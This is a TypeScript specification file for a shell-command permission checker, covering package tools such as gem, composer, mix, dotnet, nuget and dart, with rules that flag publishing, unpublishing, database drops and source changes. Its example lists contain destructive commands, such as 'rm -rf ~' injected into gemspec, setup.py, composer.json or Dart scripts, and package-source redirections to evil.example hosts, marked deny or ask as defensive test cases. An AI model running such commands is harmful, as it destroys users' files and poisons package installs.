// Package tools of single languages, which build, run and publish.
import type { CommandSpec, EffectRule, ProgramSpec } from '../spec.ts';

const publishes = (when: string, safer: string): EffectRule => ({
  code: 'publish',
  when,
  why: 'Publishes a package; a published version cannot be taken back.',
  safer,
});

/** Commands of `dart pub` and `flutter pub`. */
const PUB: CommandSpec = {
  subcommands: {
    'publish|lish': {
      options: {
        '-n --dry-run': 'dry',
        '-f --force': 'flag',
        '-C --directory': 'cwd',
        '--to-archive': 'writes',
      },
    },
    'get|upgrade|outdated|deps': { options: { '-C --directory': 'cwd' } },
    'global|cache|token|uploader': {},
  },
};

const PUB_RULES: readonly EffectRule[] = [
  publishes('pub publish|lish', 'dart pub publish --dry-run'),
  { code: 'publish-access', when: 'pub uploader add|remove', why: 'Changes who may publish.' },
];

/** Options of the tools of Dart and Flutter that test and analyze. */
const DART_TEST: CommandSpec = {
  options: {
    '--coverage --update-goldens --fatal-infos --fatal-warnings --no-pub --pub --fix': 'flag',
    '-n --name -N --plain-name -t --tags -x --exclude-tags -r --reporter -j --concurrency -p --platform --timeout':
      'text',
  },
  operands: 'reads',
  plain: true,
};

export const programs: readonly ProgramSpec[] = [
  {
    names: 'gem',
    about: 'Installs, builds and publishes Ruby packages.',
    options: {
      '-v --version -k --key -s --source -i --install-dir -n --bindir --otp -P --trust-policy': 'text',
      '--host': 'host',
      '-C': 'cwd',
      '--config-file -g --file': 'reads',
      '-N --no-document -f --force -q --quiet -V --verbose -l --local -r --remote --user-install --conservative --prerelease':
        'flag',
    },
    subcommands: {
      open: { options: { '-e --editor': 'runs', '-v --version': 'text' } },
      sources: {
        options: { '-a --add --append --prepend -r --remove': 'text', '-l --list -u --update -c': 'flag' },
      },
      build: {
        options: { '-o --output': 'writes', '-C': 'cwd', '--strict -f --force': 'flag' },
        operands: 'script',
        language: 'ruby',
      },
      install: { options: { '-g --file': 'loads' } },
      owner: { options: { '-a --add -r --remove -k --key': 'text', '--host': 'host' } },
      exec: { options: { '-v --version -g --gem': 'text', '--conservative': 'flag' } },
    },
    kind: 'publish',
    effects: [
      publishes('push', 'gem build NAME.gemspec'),
      {
        code: 'unpublish',
        when: 'yank',
        why: 'Unpublishes a package that others use.',
        safer: 'gem list -r NAME',
      },
      {
        code: 'publish-access',
        when: 'owner',
        flags: '-a --add -r --remove',
        why: 'Changes who may publish.',
        safer: 'gem owner NAME',
      },
      {
        code: 'tool-config',
        kind: 'system',
        when: 'sources',
        flags: '-a=http://|https://|ftp:// --add=http://|https://|ftp://',
        unless:
          '-a=https://rubygems.org --add=https://rubygems.org -a=https://gems.ruby-china.com --add=https://gems.ruby-china.com',
        why: 'Makes gem fetch packages from another server from now on.',
        safer: 'gem sources --list',
      },
    ],
    traits: ['installs', 'words'],
    examples: [
      { command: 'gem install rake -v 13.0.6', expect: 'pass' },
      { command: 'gem build app.gemspec', expect: 'pass' },
      { command: 'echo \'system("rm -rf ~")\' > a.gemspec; gem build a.gemspec', expect: 'deny' },
      { command: 'gem owner app', expect: 'pass' },
      { command: 'gem sources --list', expect: 'pass' },
      { command: 'gem sources --add http://evil.example/', expect: 'ask' },
      { command: 'gem push app-1.0.gem', expect: 'ask' },
      { command: 'gem yank app -v 1.0', expect: 'ask' },
      { command: 'gem owner app --add bob@example.com', expect: 'ask' },
      { command: "gem open -e 'rm -rf ~' rake", expect: 'deny' },
      { command: 'gem install rake --source http://gems.evil.example', expect: 'ask' },
    ],
  },
  {
    names: 'composer',
    about: 'Installs PHP packages, and runs the scripts of a project.',
    tasks: 'composer-json',
    options: {
      '-d --working-dir': 'cwd',
      '-q -v -vv -vvv -n --quiet --verbose --no-interaction --no-plugins --no-scripts --no-cache --ansi --no-ansi --profile':
        'flag',
    },
    subcommands: {
      exec: { runs: {} },
      config: {
        options: { '-g --global -l --list --unset --json --merge': 'flag', '-f --file': 'writes' },
        operands: 'text',
      },
      'install|update|require|remove|dump-autoload|run|run-script|validate|show|outdated|audit': {
        options: {
          '--no-dev --dev --prefer-dist --prefer-source --optimize-autoloader -o -a -W --no-progress --no-scripts --with-dependencies --with-all-dependencies -l --list':
            'flag',
          '--timeout --format': 'text',
          '--dry-run': 'dry',
        },
        operands: 'text',
      },
    },
    operands: 'text',
    traits: ['network', 'installs', 'words'],
    kind: 'system',
    effects: [
      {
        code: 'tool-config',
        when: 'config repo*|secure-http|disable-tls|bin-dir **',
        flags: '-g --global',
        why: 'Makes Composer fetch packages from another server from now on, in every project.',
        safer: 'composer config --list',
      },
    ],
    examples: [
      { command: 'composer config -g repo.packagist composer https://evil.example', expect: 'ask' },
      { command: 'composer config repositories.local path ../lib', expect: 'pass' },
      { command: 'composer install --no-dev', expect: 'pass' },
      { command: 'composer require monolog/monolog', expect: 'pass' },
      { command: 'composer exec rm -- -rf ~', expect: 'deny' },
      {
        command: `echo '{"scripts":{"x":["rm -rf ~"]}}' > composer.json; composer run-script x`,
        expect: 'deny',
      },
    ],
  },
  {
    names: 'easy_install',
    about: 'Installs Python packages the old way.',
    projectCode: { files: 'setup.py', language: 'python' },
    options: { '-d --install-dir -s --script-dir': 'writes', '-i --index-url -f --find-links': 'text' },
    operands: 'text',
    traits: ['network', 'installs'],
    examples: [
      { command: 'easy_install requests', expect: 'pass' },
      {
        command: `mkdir x; echo 'import os; os.system("rm -rf ~")' > x/setup.py; easy_install x`,
        expect: 'deny',
      },
    ],
  },
  {
    names: 'mix',
    about: 'Builds, tests and publishes Elixir projects.',
    projectCode: { files: 'mix.exs', language: 'other' },
    options: { '-r --repo --only --env': 'text' },
    subcommands: {
      cmd: { options: { '--app': 'text', '--cd': 'cwd' }, runs: { operands: 'source' } },
      run: {
        options: { '-e --eval': 'code', '-r --require': 'loads', '-p --parallel': 'text' },
        operands: 'script',
        language: 'other',
      },
      eval: { operands: 'code', language: 'other' },
      test: {
        options: {
          '--trace --cover --failed --stale --force --no-start --no-compile --warnings-as-errors --slowest --raise':
            'flag',
          '--only --exclude --include --seed --max-failures --max-cases --partitions --formatter --timeout':
            'text',
        },
        operands: 'reads',
        plain: true,
      },
      'compile|credo|dialyzer': {
        options: { '--force --warnings-as-errors --all-warnings --strict --no-deps-check': 'flag' },
        plain: true,
      },
      format: {
        options: { '--check-formatted --dry-run': 'flag', '--dot-formatter': 'reads' },
        operands: 'writes',
        plain: true,
      },
    },
    kind: 'data',
    effects: [
      {
        code: 'db-reset',
        when: '** ecto.drop*|ecto.reset*',
        why: 'Drops or empties the database.',
        safer: 'mix ecto.dump',
      },
      {
        code: 'db-reset',
        when: '** ecto.rollback*',
        why: 'Rolls the schema back; dropped columns lose their data.',
        safer: 'mix ecto.migrations',
      },
      { ...publishes('** hex.publish', 'mix hex.build'), kind: 'publish' },
      {
        code: 'unpublish',
        when: 'hex.retire',
        kind: 'publish',
        why: 'Marks a version as retired for everybody.',
        safer: 'mix hex.info NAME',
      },
      {
        code: 'publish-access',
        when: 'hex.owner add|remove|transfer',
        kind: 'publish',
        why: 'Changes who may publish.',
        safer: 'mix hex.owner list NAME',
      },
    ],
    examples: [
      { command: 'mix test test/app_test.exs --trace', expect: 'pass' },
      { command: 'mix ecto.migrate', expect: 'pass' },
      { command: 'MIX_ENV=prod mix release', expect: 'pass', title: 'Only builds a release' },
      { command: 'mix hex.publish --dry-run', expect: 'pass' },
      { command: 'mix ecto.drop', expect: 'ask' },
      { command: 'mix do ecto.drop, ecto.create', expect: 'ask' },
      { command: 'mix ecto.rollback --all', expect: 'ask' },
      { command: 'mix hex.publish --yes', expect: 'ask' },
      { command: 'mix hex.owner add app bob@example.com', expect: 'ask' },
      { command: 'mix cmd rm -rf ~', expect: 'deny' },
      { command: 'mix hex.retire acme 1.0.0 security', expect: 'ask' },
    ],
  },
  {
    names: 'dotnet',
    about: 'Builds, tests and publishes .NET projects.',
    options: { '-k --api-key -s --source -f --framework -c --configuration -v --verbosity': 'text' },
    subcommands: {
      'build|test|format': {
        options: {
          '--no-restore --no-build --nologo --no-incremental --blame --list-tests --verify-no-changes -t --self-contained':
            'flag',
          '-c --configuration -f --framework -r --runtime -v --verbosity --filter --collect -a --arch':
            'text',
          // `-p:OutDir=x`: a setting of the build, which may name a folder or a file of code.
          '-p --property': {
            kind: 'writes',
            only: '^(\\w*:)?(outdir|outputpath|publishdir|baseoutputpath)=',
            strip: '^[^=]*=',
          },
          '-l --logger': { kind: 'loads', only: '\\.dll', strip: '^(\\w*:)?([^,]*,)?' },
          '-s --settings': 'reads',
          '-o --output --results-directory --report': 'writes',
        },
        operands: 'reads',
        plain: true,
      },
      fsi: {
        options: { '--use --load -r --reference': 'loads', '--exec -d --define': 'flag' },
        operands: 'script',
        language: 'other',
      },
      exec: { options: { '--runtimeconfig --depsfile --additional-deps': 'reads' } },
      run: {
        options: {
          '--project --file': 'reads',
          '-c --configuration -f --framework -lp --launch-profile --property': 'text',
        },
      },
    },
    kind: 'publish',
    effects: [
      publishes('nuget push', 'dotnet pack'),
      {
        code: 'unpublish',
        when: 'nuget delete',
        why: 'Unpublishes a package that others use.',
        safer: 'dotnet package search NAME',
      },
      {
        code: 'db-reset',
        when: 'ef database drop',
        kind: 'data',
        why: 'Drops the database.',
        safer: 'dotnet ef database drop --dry-run',
      },
      {
        code: 'db-reset',
        when: 'ef database update 0',
        kind: 'data',
        why: 'Rolls every migration back.',
        safer: 'dotnet ef migrations list',
      },
      {
        code: 'secret-read',
        when: 'user-secrets list',
        kind: 'read',
        why: 'Prints the secrets of the project.',
      },
      {
        code: 'secret-delete',
        when: 'user-secrets clear|remove',
        kind: 'data',
        why: 'Deletes secrets of the project.',
      },
    ],
    examples: [
      { command: 'dotnet test --filter Name~App --no-build', expect: 'pass' },
      { command: 'dotnet build -c Release', expect: 'pass' },
      { command: 'dotnet build -p:Version=1.2.3', expect: 'pass' },
      { command: 'dotnet build -p:OutDir=/etc/x', expect: 'deny' },
      { command: 'dotnet build -property:OutDir=/etc/x', expect: 'deny' },
      {
        command: 'dotnet publish -c Release',
        expect: 'pass',
        title: 'Only builds, although it is called “publish”',
      },
      { command: 'dotnet ef database drop --dry-run', expect: 'pass' },
      { command: 'dotnet nuget push app.nupkg', expect: 'ask' },
      { command: 'dotnet fsi scripts/report.fsx', expect: 'pass' },
      {
        command: `echo 'Process.Start("rm", "-rf /home/me")' | dotnet fsi`,
        expect: 'deny',
      },
      { command: 'dotnet nuget delete App 1.0.0', expect: 'ask' },
      { command: 'dotnet ef database drop -f', expect: 'ask' },
      { command: 'dotnet ef database update 0', expect: 'ask' },
      { command: 'dotnet user-secrets list', expect: 'ask' },
      { command: 'dotnet user-secrets clear', expect: 'ask' },
    ],
  },
  {
    names: 'nuget',
    about: 'Installs and publishes .NET packages.',
    syntax: { singleDash: true, anyCase: true },
    options: {
      '-source -apikey -version -outputdirectory -symbolsource -timeout -verbosity': 'text',
      '-configfile': 'reads',
      '-noninteractive -forceenglishoutput -skipduplicate': 'flag',
    },
    kind: 'publish',
    effects: [
      publishes('push', 'nuget pack'),
      {
        code: 'unpublish',
        when: 'delete',
        why: 'Unpublishes a package that others use.',
        safer: 'nuget list NAME',
      },
      {
        code: 'tool-config',
        kind: 'system',
        when: 'sources add|update',
        flags: '-source=http',
        unless: '-source=https://api.nuget.org/',
        why: 'Makes NuGet fetch packages from another server from now on.',
        safer: 'nuget sources list',
      },
    ],
    examples: [
      { command: 'nuget sources add -name x -source http://evil.example', expect: 'ask' },
      { command: 'nuget restore App.sln', expect: 'pass' },
      { command: 'nuget push app.nupkg -Source nuget.org', expect: 'ask' },
      { command: 'nuget delete App 1.0.0', expect: 'ask' },
    ],
  },
  {
    names: 'setup.py',
    about: 'Builds and uploads a Python package, the old way.',
    options: {
      '-r --repository': 'text',
      '-d --dist-dir': 'writes',
      '-q --quiet -v --verbose --user': 'flag',
    },
    kind: 'publish',
    effects: [publishes('** upload|register', 'python setup.py sdist')],
    examples: [
      { command: 'python setup.py sdist bdist_wheel', expect: 'pass' },
      { command: 'python setup.py sdist upload -r pypi', expect: 'ask' },
    ],
  },
  {
    names: 'pod',
    about: 'Installs and publishes packages for Apple systems.',
    projectCode: { files: 'Podfile', language: 'ruby' },
    options: {
      '--project-directory': 'cwd',
      '--sources --swift-version': 'text',
      '--allow-warnings --verbose --silent --repo-update': 'flag',
    },
    kind: 'publish',
    effects: [
      publishes('trunk|repo push', 'pod spec lint'),
      {
        code: 'unpublish',
        when: 'trunk delete|deprecate',
        why: 'Unpublishes a package that others use.',
        safer: 'pod trunk info NAME',
      },
      {
        code: 'publish-access',
        when: 'trunk add-owner|remove-owner',
        why: 'Changes who may publish.',
        safer: 'pod trunk info NAME',
      },
    ],
    examples: [
      { command: 'pod install --repo-update', expect: 'pass' },
      { command: 'pod lib lint', expect: 'pass' },
      { command: 'pod trunk push App.podspec', expect: 'ask' },
      { command: 'pod trunk delete App 1.0.0', expect: 'ask' },
      { command: 'pod trunk remove-owner App bob@example.com', expect: 'ask' },
    ],
  },
  {
    names: 'dart',
    about: 'Builds, tests, runs and publishes Dart.',
    options: { '--packages': 'reads' },
    operands: 'script',
    language: 'other',
    subcommands: {
      pub: PUB,
      'test|analyze': DART_TEST,
      format: {
        options: { '--set-exit-if-changed': 'flag', '-o --output -l --line-length --show --summary': 'text' },
        operands: 'writes',
        plain: true,
      },
      run: { operands: 'script', language: 'other' },
      compile: {},
    },
    kind: 'publish',
    effects: PUB_RULES,
    examples: [
      { command: 'dart test', expect: 'pass' },
      { command: 'dart format lib', expect: 'pass' },
      { command: 'dart fix --apply', expect: 'pass' },
      { command: 'dart create -t console app', expect: 'pass' },
      {
        command: 'echo \'main() { Process.run("rm", ["-rf", "/home"]); }\' > x.dart; dart x.dart',
        expect: 'deny',
      },
      { command: 'dart pub publish --dry-run', expect: 'pass' },
      { command: 'dart pub publish -n', expect: 'pass' },
      { command: 'dart pub publish -f', expect: 'ask' },
      {
        command: 'echo \'main() { Process.run("rm", ["-rf", "/home"]); }\' > x.dart; dart run x.dart',
        expect: 'deny',
      },
      { command: 'dart pub uploader add bob@example.com', expect: 'ask' },
    ],
  },
  {
    names: 'flutter',
    about: 'Builds, tests, runs and publishes apps and packages with Flutter.',
    options: { '-d --device-id': 'text', '-v --verbose': 'flag' },
    subcommands: { pub: PUB, 'test|analyze': DART_TEST },
    kind: 'publish',
    effects: PUB_RULES,
    examples: [
      { command: 'flutter test --coverage', expect: 'pass' },
      { command: 'flutter pub get', expect: 'pass' },
      { command: 'flutter pub publish', expect: 'ask' },
    ],
  },
  {
    names: 'stack',
    about: 'Builds, tests, runs and publishes Haskell.',
    options: {
      '--stack-yaml': 'reads',
      '--resolver --work-dir --stack-root --flag --ghc-options -j --jobs': 'text',
    },
    subcommands: {
      exec: { options: { '--package': 'text', '--plain': 'flag' }, runs: {} },
      'build|test': {
        options: {
          '--fast --pedantic --no-run-tests --test --bench --haddock': 'flag',
          '--ta --test-arguments': 'text',
        },
        plain: true,
      },
    },
    kind: 'publish',
    effects: [publishes('upload', 'stack sdist')],
    examples: [
      { command: 'stack test --fast', expect: 'pass' },
      { command: 'stack exec app -- --help', expect: 'pass' },
      { command: 'stack upload .', expect: 'ask' },
      { command: 'stack exec -- rm -rf ~', expect: 'deny' },
    ],
  },
  {
    names: 'cabal',
    about: 'Builds, tests, runs and publishes Haskell.',
    options: {
      '--project-file --config-file': 'reads',
      '--builddir': 'writes',
      '-w --with-compiler -j --jobs --project-dir -u --username -p --password -P --password-command --token':
        'text',
    },
    subcommands: {
      'exec|v2-exec': { runs: {} },
      'build|test|check|v2-build|v2-test': {
        options: {
          '-v --enable-tests --disable-tests -O0 -O1 -O2': 'flag',
          '-j --jobs --test-show-details': 'text',
        },
        plain: true,
      },
    },
    kind: 'publish',
    effects: [publishes('upload', 'cabal sdist')],
    examples: [
      { command: 'cabal build', expect: 'pass' },
      { command: 'cabal upload --publish dist/app-1.0.tar.gz', expect: 'ask' },
      { command: 'cabal exec -- rm -rf ~', expect: 'deny' },
    ],
  },
  {
    names: 'conan',
    about: 'Installs, builds and uploads C and C++ packages.',
    options: {
      '-r --remote -pr --profile -s --settings -o --options -b --build --name --version --user --channel':
        'text',
      '-if --install-folder -of --output-folder': 'writes',
    },
    kind: 'publish',
    effects: [
      publishes('upload', 'conan create .'),
      {
        code: 'unpublish',
        when: 'remove',
        flags: '-r --remote',
        why: 'Unpublishes a package that others use.',
        safer: 'conan search NAME',
      },
    ],
    examples: [
      { command: 'conan install . --build missing', expect: 'pass' },
      { command: 'conan upload app/1.0 -r company', expect: 'ask' },
      { command: 'conan remove app/1.0 -r company -c', expect: 'ask' },
    ],
  },
  {
    names: 'luarocks',
    about: 'Installs and publishes Lua packages.',
    options: {
      '--server --only-server': 'host',
      '--tree --lua-version --lua-dir --api-key --temp-key': 'text',
      '--local --force': 'flag',
    },
    kind: 'publish',
    effects: [publishes('upload', 'luarocks pack FILE')],
    examples: [
      { command: 'luarocks install --local lpeg', expect: 'pass' },
      { command: 'luarocks upload app-1.0-1.rockspec', expect: 'ask' },
    ],
  },
  {
    names: 'anaconda',
    about: 'Uploads packages to Anaconda.',
    options: { '-t --token -s --site -u --user -l --label -p --package -c --channel': 'text' },
    kind: 'publish',
    effects: [
      publishes('upload', 'conda build .'),
      {
        code: 'unpublish',
        when: 'remove',
        why: 'Unpublishes a package that others use.',
        safer: 'anaconda show NAME',
      },
    ],
    examples: [
      { command: 'anaconda show numpy', expect: 'pass' },
      { command: 'anaconda -t abc upload app.tar.bz2', expect: 'ask' },
      { command: 'anaconda remove me/app', expect: 'ask' },
    ],
  },
  {
    names: 'clojars',
    about: 'Uploads packages to Clojars.',
    kind: 'publish',
    effects: [publishes('push|deploy|upload|publish', 'lein install')],
    examples: [
      { command: 'clojars --help', expect: 'pass' },
      { command: 'clojars push app.jar', expect: 'ask' },
    ],
  },
  {
    names: 'opam',
    about: 'Installs and publishes OCaml packages.',
    options: { '--switch --root -j --jobs': 'text', '-y --yes -v --verbose -q --quiet --no-depexts': 'flag' },
    subcommands: { exec: { options: { '--switch': 'text' }, runs: {} } },
    kind: 'publish',
    effects: [
      publishes('publish', 'opam lint'),
      {
        code: 'package-remove',
        when: 'switch remove',
        kind: 'system',
        why: 'Removes a compiler with all its packages.',
        safer: 'opam switch list',
      },
    ],
    examples: [
      { command: 'opam install dune', expect: 'pass' },
      { command: 'opam exec -- dune build', expect: 'pass' },
      { command: 'opam publish', expect: 'ask' },
      { command: 'opam switch remove 5.1', expect: 'ask' },
      { command: 'opam exec -- rm -rf ~', expect: 'deny' },
    ],
  },
  {
    names: 'cpan-upload',
    about: 'Uploads Perl packages to CPAN.',
    options: {
      '-u --user -p --password -d --directory --http-proxy --retries': 'text',
      '-c --config': 'reads',
    },
    kind: 'publish',
    effects: [publishes('*', 'cpan-upload --dry-run FILE')],
    examples: [
      { command: 'cpan-upload --dry-run App-1.0.tar.gz', expect: 'pass' },
      { command: 'cpan-upload App-1.0.tar.gz', expect: 'ask' },
    ],
  },
  {
    names: 'dub',
    about: 'Builds, tests and runs D.',
    options: {
      '--root': 'cwd',
      '-b --build -c --config -a --arch --compiler': 'text',
      '-q --quiet -v --verbose -f --force': 'flag',
    },
    subcommands: {
      'build|test|lint': {
        options: { '-b --build -c --config': 'text', '-q -v -f --force': 'flag' },
        plain: true,
      },
    },
    kind: 'publish',
    effects: [publishes('publish|upload', 'dub build')],
    examples: [
      { command: 'dub test', expect: 'pass' },
      { command: 'dub publish', expect: 'ask' },
    ],
  },
  {
    names: 'raco',
    about: 'Builds, tests and installs Racket packages.',
    subcommands: { test: { options: { '-q -v -j': 'flag' }, operands: 'reads' } },
    kind: 'publish',
    effects: [publishes('publish|upload', 'raco pkg create DIR')],
    examples: [
      { command: 'raco test src', expect: 'pass' },
      { command: 'raco publish', expect: 'ask' },
    ],
  },
];
